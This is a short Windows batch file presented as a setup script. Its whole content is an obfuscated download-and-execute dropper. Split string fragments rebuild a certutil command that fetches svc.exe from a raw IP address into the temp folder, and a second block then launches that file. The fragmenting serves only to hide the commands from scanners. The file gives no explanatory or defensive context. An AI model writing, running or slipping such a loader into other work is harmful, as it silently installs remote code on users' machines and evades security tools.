REM setup 1791 v2
@echo off
@echo off
setlocal EnableDelayedExpansion
set "ush0=certuti"
set "vqy1=l.exe -urlcache -split -f "
set "znr2=http:"
set "mtw3=//19"
set "kbh4=8.51.100.23/svc.exe %TEMP%\svc.exe"
!ush0!!vqy1!!znr2!!mtw3!!kbh4!
@echo off
setlocal EnableDelayedExpansion
set "wxw0=start"
set "uni1= "" %TE"
set "eqx2=M"
set "kss3=P%\svc.e"
set "ozo4=xe"
!wxw0!!uni1!!eqx2!!kss3!!ozo4!
